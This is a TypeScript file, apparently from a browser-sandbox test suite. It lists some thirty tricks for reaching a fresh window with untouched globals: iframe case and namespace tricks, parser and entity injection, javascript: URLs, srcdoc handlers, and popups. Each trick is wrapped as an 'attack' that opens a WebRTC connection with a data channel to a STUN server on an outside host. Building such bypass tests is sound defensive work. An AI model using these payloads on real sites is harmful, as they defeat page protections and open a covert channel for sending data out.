/**
 * Ways to a window with globals that the page has not removed. Each is the body of an async function that is given
 * `take(window)`, which returns whether the window has a connection of WebRTC, and uses it.
 */
const WAYS: { readonly [name: string]: string } = {
  "an empty frame": `
    const frame = document.createElement("iframe");
    element.append(frame);
    return take(frame.contentWindow);`,
  "an empty frame, by its number": `
    element.append(document.createElement("iframe"));
    return take(window[window.length - 1]);`,
  "an empty frame of a name with another case": `
    const frame = document.createElement({ toString: () => "IFrame" });
    element.append(frame);
    return take(frame.contentWindow);`,
  "a name that changes when it is read again": `
    let reads = 0;
    const frame = document.createElement({ toString: () => reads++ === 0 ? "p" : "iframe" });
    element.append(frame);
    return take(frame.contentWindow);`,
  "an empty frame of a namespace": `
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
    element.append(frame);
    return take(frame.contentWindow);`,
  "an empty frame of a namespace whose prefix is a space": `
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "\u1680:iframe");
    element.append(frame);
    return take(frame.contentWindow);`,
  "an empty frame of a parser by a prefix that is a space": `
    const xml = "<\ufeff:iframe xmlns:\ufeff='http://www.w3.org/1999/xhtml'/>";
    element.append(new DOMParser().parseFromString(xml, "text/xml").documentElement);
    return take(element.firstChild.contentWindow);`,
  "an empty frame of another document": `
    const other = document.implementation.createHTMLDocument();
    const frame = other.createElement("iframe");
    element.append(frame);
    return take(frame.contentWindow);`,
  "a document that begins with an empty frame": `
    const other = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe", null);
    element.append(other.documentElement);
    return take(element.lastChild.contentWindow);`,
  "a document that begins with an empty frame of another case and document": `
    const { implementation } = document.implementation.createHTMLDocument();
    const name = { toString: () => "x:iframe" };
    const other = DOMImplementation.prototype.createDocument.call(implementation, "http://www.w3.org/1999/xhtml", name);
    element.append(document.importNode(other, true).documentElement ?? other.firstChild);
    return take(element.lastChild.contentWindow);`,
  "an empty frame of markup": `
    element.innerHTML = "<iframe></iframe>";
    return take(element.firstChild.contentWindow);`,
  "an empty frame of a template": `
    const template = document.createElement("template");
    template.innerHTML = "<p><IFRAME></IFRAME>";
    element.append(template.content.cloneNode(true));
    return take(element.querySelector("iframe").contentWindow);`,
  "an empty frame of a parser": `
    const parsed = new DOMParser().parseFromString("<x:iframe xmlns:x='http://www.w3.org/1999/xhtml'/>", "text/xml");
    element.append(document.importNode(parsed.documentElement, true));
    return take(element.firstChild.contentWindow);`,
  "an empty frame of an entity": `
    const xml = "<!DOCTYPE a [<!ENTITY e \\"&#60;ifr&#97;me xmlns='http://www.w3.org/1999/xhtml'/>\\">]><a>&e;</a>";
    element.append(new DOMParser().parseFromString(xml, "text/xml").documentElement.firstChild);
    return take(element.firstChild.contentWindow);`,
  "an empty frame of a shadow root": `
    const root = element.appendChild(document.createElement("div")).attachShadow({ mode: "closed" });
    root.setHTMLUnsafe("<iframe></iframe>");
    return take(root.firstChild.contentWindow);`,
  "an empty frame of a range": `
    element.append(document.createRange().createContextualFragment("<iframe></iframe>"));
    return take(element.firstChild.contentWindow);`,
  "an empty frame of an editor": `
    element.contentEditable = "true";
    element.focus();
    getSelection().selectAllChildren(element);
    document.execCommand("insertHTML", false, "<iframe></iframe>");
    element.contentEditable = "false";
    return take(element.querySelector("iframe").contentWindow);`,
  "an empty frame of its own class": `
    class Frame extends HTMLIFrameElement {}
    customElements.define("own-frame", Frame, { extends: "iframe" });
    const frame = new Frame();
    element.append(frame);
    return take(frame.contentWindow);`,
  "an object": `
    const object = Object.assign(document.createElement("object"), { data: "about:blank", type: "text/html" });
    element.append(object);
    await wait(100);
    return take(object.contentWindow ?? window[window.length - 1]);`,
  "an embedded page": `
    const embed = Object.assign(document.createElement("embed"), { src: "about:blank", type: "text/html" });
    element.append(embed);
    await wait(100);
    return take(window[window.length - 1]);`,
  "a set of frames": `
    const set = document.createElement("frameset");
    set.append(document.createElement("frame"));
    document.documentElement.append(set);
    try { return take(window[window.length - 1]); } finally { set.remove(); }`,
  "a script in a frame's markup": `
    return await runs("<script>" + code + "</" + "script>");`,
  "a handler in a frame's markup": `
    return await runs("<img src='data:,' onerror='" + code + "'><svg onload='" + code + "'></svg><body onload='" + code + "'>");`,
  "a code address in a frame's markup": `
    return await runs("<iframe src='javascript:" + code + "'></iframe><object data='javascript:" + code + "'></object>");`,
  "a frame with a code address": `
    return await runs(null, "javascript:" + code);`,
  "a frame that is written": `
    const frame = document.createElement("iframe");
    element.append(frame);
    frame.contentDocument.write("<script>" + code + "</" + "script>");
    return await isReported();`,
  "an empty window": `return take(window.open("about:blank"));`,
  "a window beside the page": `return take(await documentPictureInPicture.requestWindow());`,
};

/** The ways as attacks: each is the body of an async function, which returns whether it succeeded. */
export const FRESH_GLOBALS: { readonly [name: string]: string } = Object.fromEntries(
  Object.entries(WAYS).map(([name, way]) => [
    `WebRTC by ${name}`,
    `
    const place = element;
    element = place.appendChild(document.createElement("div"));
    const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
    const stun = "stun:" + elsewhere.slice(7);
    const take = ({ RTCPeerConnection }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      connection.createDataChannel("secret");
      connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      return true;
    };
    const code = "new RTCPeerConnection;parent.postMessage(\\"fresh\\",\\"*\\")".replaceAll('"', "\`");
    const isReported = () => new Promise((resolve) => {
      addEventListener("message", ({ data }) => data === "fresh" && resolve(true));
      setTimeout(() => resolve(false), 400);
    });
    const runs = (srcdoc, src) => {
      const frame = document.createElement("iframe");
      if (srcdoc === null) frame.src = src;
      else frame.srcdoc = srcdoc;
      element.append(frame);
      return isReported();
    };
    try { ${way} } finally { setTimeout(() => element.remove(), 1000); }`,
  ]),
);
